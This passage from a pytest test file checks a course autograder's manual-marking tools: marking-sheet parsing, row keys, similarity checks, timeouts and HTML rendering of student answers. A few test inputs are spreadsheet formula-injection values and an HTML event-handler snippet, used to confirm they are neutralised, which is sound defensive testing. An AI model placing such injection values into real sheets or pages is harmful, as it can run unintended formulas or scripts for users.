        ({"points": "x"}, "the points are 'x', which is no number such as 2 or 2.5."),
        ({"points": "3.5"}, "the points are 3.5, but the question is worth 3."),
    ],
)
def test_a_row_that_cannot_be_taken_says_why(changes, sentence):
    ada = make_answer("ada", mark=OLD)
    question = make_question([ada])
    merge = manual_marks._SheetMerge(question)
    fields = {"student": "Ada", "points": "2", "comment": "", **changes}
    of_sheet = replace(
        ada, digest=fields.pop("digest", ada.digest), mark=fields.pop("mark", ada.mark)
    )
    fields.setdefault("key", question.make_row_key(of_sheet))
    with pytest.raises(ValueError, match=re.escape(sentence)):
        merge.apply_row(manual_marks._SheetRow("sheet, row 4", **fields))
    assert merge.new_marks() == {}


def test_two_rows_for_one_answer_name_the_row_that_came_first():
    question = make_question([make_answer("ada")])
    merge = manual_marks._SheetMerge(question)
    key = question.make_row_key(question.answers[0])
    merge.apply_row(manual_marks._SheetRow("one.csv, row 4", "", "2", "", key))
    with pytest.raises(ValueError, match=r"Ada was given 2 points in one\.csv, row 4\. Settle"):
        merge.apply_row(manual_marks._SheetRow("two.csv, row 9", "", "3", "", key))
    merge.apply_row(manual_marks._SheetRow("two.csv, row 9", "", "2", "", key))
    assert merge.new_marks() == {"ada": ManualMark("2", "")}


def test_each_part_of_a_row_s_key_belongs_to_one_fact():
    question, ada = make_question(), make_answer("ada", mark=OLD)
    parts = question.make_row_key(ada).split("-")
    assert len({*parts}) == 3 and all(re.fullmatch("[a-p]{10}", part) for part in parts)
    for position, other in enumerate(
        (replace(ada, student="bo"), replace(ada, digest="x"), replace(ada, mark=NO_MARK))
    ):
        other_parts = question.make_row_key(other).split("-")
        assert [a != b for a, b in zip(parts, other_parts)] == [i == position for i in range(3)]
    for points, comment in (("1O", "ld words."), ("Old words.", "1")):
        assert question.hash_mark(ManualMark(points, comment)) != parts[2]
    elsewhere = replace(question, name="explain-more")
    assert elsewhere.make_row_key(ada).split("-")[0] != parts[0]
    assert question.page.relative_to(question.classroom.root).as_posix() == (
        f"answers/{LAB}/{QUESTION}.html"
    )
    assert question.sheet == question.page.with_suffix(".csv")


def test_the_verdict_and_the_answer_are_those_of_the_question_or_exercise():
    verdicts = {"softmax": Verdict.PASS, "stable_softmax": Verdict.WRONG}
    submission = SimpleNamespace(
        results=[row("ada", name, verdict) for name, verdict in verdicts.items()],
        answers={"softmax": "of softmax", "stable_softmax": "of stable"},
    )
    mark = SimpleNamespace(scores={}, manually_graded=(), extra_credit={}, comments={})
    marks = SimpleNamespace(
        distinct_name=str.title, marks={("ada", LAB): mark}, regrade_requests={}
    )
    for name, digest in submission.answers.items():
        answer = manual_marks._make_student_answer(lab(LAB), name, "ada", marks, submission)
        assert (answer.digest, answer.verdict) == (digest, str(verdicts[name]))
        answer = manual_marks._make_student_answer(lab(LAB), name, "ada", marks, None)
        assert (answer.name, answer.digest, answer.verdict) == ("Ada", "", "")


def test_sheets_that_an_earlier_version_wrote_can_still_be_imported():
    question = make_question(points=2.0)
    marked = replace(make_answer("bo", mark=ManualMark("1.5", "Don't  do it.")), digest="x")
    keys = [question.make_row_key(answer) for answer in (make_answer("ada"), marked)]
    assert keys == ["jjkjaaaali-lcdbmajinf-jkhaanjcnf", "fbdhkbgokl-hpdmgepjjc-chjhmbelia"]


@pytest.mark.parametrize(
    ("common", "only_first", "only_second", "is_similar"),
    [(1, 0, 0, True), (3, 1, 1, True), (3, 2, 0, True), (3, 0, 2, True)]
    + [(3, 2, 1, False), (3, 1, 2, False), (2, 2, 0, False), (2, 0, 2, False), (0, 1, 1, False)],
)
def test_similar_answers_share_three_fifths_of_all_their_passages(
    common, only_first, only_second, is_similar
):
    first = {*range(common), *range(10, 10 + only_first)}
    second = {*range(common), *range(20, 20 + only_second)}
    assert manual_marks._are_similar(first, second) is is_similar


HEADINGS = "number,student,alike,points,of,comment,answer,key\n"


@pytest.mark.parametrize(
    ("text", "rows"),
    [
        (
            f"A lab: 3 points.\n\n{HEADINGS}1,Ada,,2,3,,x,k1\n2,Bo,,,3,,x,k2\n3,Cy,,,3,Why?,x,k3\n",
            [("row 4", "Ada", "2", "", "k1"), ("row 6", "Cy", "", "Why?", "k3")],
        ),
        ("Key; Points ;comment\nk1;2,5; a, b \n", [("row 2", "", "2,5", "a, b", "k1")]),
        ("student\tkey\tPOINTS\nAda\tk1\t2\textra\n", [("row 2", "Ada", "2", "", "k1")]),
        (
            "key,points,student,comment\nk1,2\nk2\n\nk3,0,Cy\n",
            [("row 2", "", "2", "", "k1"), ("row 5", "Cy", "0", "", "k3")],
        ),
        (
            'k1,2\nkey,points,comment\nk2,,"a\n\nb"\nk3,1,\n',  # sorted with the headings
            [("row 1", "", "2", "", "k1"), ("row 3", "", "", "a\n\nb", "k2")]
            + [("row 4", "", "1", "", "k3")],
        ),
        ("key,points\n,1\n", [("row 2", "", "1", "", "")]),
    ],
)
def test_the_filled_in_rows_of_a_sheet_are_found_by_the_headings(tmp_path, text, rows):
    path = tmp_path / "x.csv"
    path.write_text(text, "utf-8")
    expected = [manual_marks._SheetRow(f"x.csv, {place}", *cells) for place, *cells in rows]
    assert list(manual_marks._read_filled_in_rows(path)) == expected


def test_an_answer_that_takes_too_long_is_a_row_with_a_remark(monkeypatch):
    calls_made = []

    def run_calls(function, calls, *, workers, retry_with_simpler_result, **options):
        calls_made.append((function, calls, workers, retry_with_simpler_result))
        yield 1, '{"source": "B", "html": "<p>B</p>"}'
        yield 0, WorkerFailed("it took too long")

    monkeypatch.setattr(manual_marks, "run_calls_in_workers", run_calls)
    question = make_question([make_answer("ada"), make_answer("bo", mark=ManualMark("1", "So."))])
    question.classroom.course = COURSE
    question.classroom.notebook_path = lambda student, lab_name: f"{student}-{lab_name}"
    ada, bo = question.answers
    remark = "(This answer takes too long to show. Read it in the formgrader.)"
    assert list(manual_marks._answers_with_texts(question, 2)) == [
        replace(ada, source=remark, html=Markup(f"<p>{remark}</p>")),
        replace(bo, source="B", html=Markup("<p>B</p>")),
    ]
    calls = [(str(COURSE.root), LAB, QUESTION, f"{student}-{LAB}") for student in ("ada", "bo")]
    assert calls_made == [(manual_marks.read_answer_as_json, calls, 2, True)]


def test_the_page_and_the_sheet_have_the_same_answers_and_an_old_sheet_is_kept(
    tmp_path, monkeypatch
):
    monkeypatch.setattr(
        manual_marks, "_answers_with_texts", lambda question, workers: iter(question.answers)
    )
    texts = {"ada": "First.", "bo": "Quite another answer."}
    answers = [make_answer(student, text, html=text) for student, text in texts.items()]
    question = make_question(answers)
    question.classroom.root = tmp_path

    def write(text=None):
        if text is not None:
            question.sheet.write_text(text, "utf-8")
        return write_answers_page_and_marking_sheet(question, workers=1)

    assert write() is None and write() is None
    rows, _ = read_rows(question.sheet)
    assert {name: row["answer"] for name, row in rows.items()} == {
        "Ada": "First.",
        "Bo": "Quite another answer.",
    }
    page = question.page.read_text("utf-8")
    assert "First." in page and "Quite another answer." in page
    filled = fill_sheet(question.sheet, {"Ada": ("1", "")}).read_text("utf-8")
    for number, text in enumerate((filled, "no sheet at all", filled), 1):
        assert write(text) == question.sheet.with_name(f"{QUESTION}-earlier-{number}.csv")
        assert write() is None, "the new sheet has no marks"
        assert question.sheet.with_name(f"{QUESTION}-earlier-{number}.csv").read_text() == text


@pytest.mark.parametrize(
    ("count", "blank"),
    [
        (0, ""),
        (1, " (1 submission left it as it was handed out)"),
        (2, " (2 submissions left it as it was handed out)"),
    ],
)
def test_a_question_without_answers_says_how_many_left_it_blank(count, blank):
    question = make_question()
    question.blank_count = count
    with pytest.raises(AutograderError) as error:
        write_answers_page_and_marking_sheet(question, workers=1)
    assert str(error.value) == f"There is no answer to {QUESTION} of {LAB} to mark{blank}."


def test_a_sheet_may_name_a_student_by_name_folder_or_pseudonym_if_there_are_any(tmp_path):
    question = make_question([make_answer("ada")])
    question.classroom.root = tmp_path
    assert manual_marks._list_aliases_by_student(question) == {"ada": {"Ada", "ada"}}
    assert not list(tmp_path.iterdir()), "importing a sheet gives nobody a pseudonym"
    (tmp_path / "pseudonyms.csv").write_text("pseudonym,student_id\nstudent-007,'ada\n")
    aliases = {"ada": {"Ada", "ada", "student-007"}}
    assert manual_marks._list_aliases_by_student(question) == aliases


@pytest.mark.parametrize(
    ("cell", "comment"),
    [("'=3\x07+3", "=3\ufffd+3"), ("'= 1", "= 1"), ("'-1", "-1"), ("=1", "=1")]
    + [("''tis", "''tis"), ("'tis", "'tis"), ("", ""), ("a\x07b", "a\ufffdb")],
)
def test_a_comment_loses_only_the_quote_that_made_it_harmless(cell, comment):
    assert manual_marks._parse_comment(cell) == comment


@pytest.mark.parametrize("without_markup", [False, True])
def test_the_text_of_an_answer_is_that_of_its_own_cell(tmp_path, without_markup):
    cells = []
    for grade_id, kind, source in (
        ("other", "markdown", "Other."),
        (QUESTION, "markdown", "It is **so** <i onclick=1>."),
        ("stable-softmax", "code", "x = 1 < 2"),
        ("test-stable-softmax", "code", "check()"),
    ):
        metadata = {"nbgrader": {"grade_id": grade_id}}
        cells.append({"cell_type": kind, "source": source, "metadata": metadata})
    path = tmp_path / "x.ipynb"
    path.write_text(json.dumps({"cells": [{"cell_type": "raw"}, *cells]}))

    def read(name):
        arguments = (str(COURSE.root), LAB, name, str(path), without_markup)
        return json.loads(manual_marks.read_answer_as_json(*arguments))

    prose, code = read(QUESTION), read("stable_softmax")
    assert (prose["source"], code["source"]) == ("It is **so** <i onclick=1>.", "x = 1 < 2")
    assert ("<strong>so</strong>" in prose["html"]) == (not without_markup)
    assert ("<span" in code["html"]) == (not without_markup)
    assert code["html"].startswith("<pre>") and "<i onclick" not in prose["html"]


def test_an_answer_has_the_mark_and_the_requests_of_its_question_only():
    request = RegradeRequest("Why?")
    mark = SimpleNamespace(
        scores={"softmax": 2.0, QUESTION: 2.25, "other": 1.0},
        manually_graded={QUESTION, "other"},
        extra_credit={QUESTION: 0.5, "other": 1.0},
        comments={QUESTION: "Good.", "other": "Bad."},
    )
    requests = {QUESTION: (request,), "other": (RegradeRequest("How?"),)}
    marks = SimpleNamespace(
        distinct_name=str.title,
        marks={("ada", LAB): mark, ("ada", "training"): None},
        regrade_requests={("ada", LAB): requests, ("bo", LAB): {}},
    )
    answer = manual_marks._make_student_answer(lab(LAB), QUESTION, "ada", marks, None)
    assert answer == StudentAnswer(
        "ada", "Ada", ManualMark("1.75", "Good."), "", requests=(request,)
    )
    answer = manual_marks._make_student_answer(lab(LAB), "softmax", "ada", marks, None)
    assert answer == StudentAnswer("ada", "Ada", NO_MARK, "")
